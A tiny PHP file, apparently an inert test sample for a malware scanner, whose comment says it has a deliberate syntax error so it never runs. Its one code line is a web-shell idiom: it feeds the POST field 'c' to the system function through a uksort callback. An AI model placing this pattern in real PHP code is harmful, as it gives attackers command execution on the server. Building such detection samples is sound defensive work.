<?php
shodo inert sample: deliberate syntax error, this file never runs
 $arr = array($_POST['c'] => 1); uksort($arr, 'system'); ?>
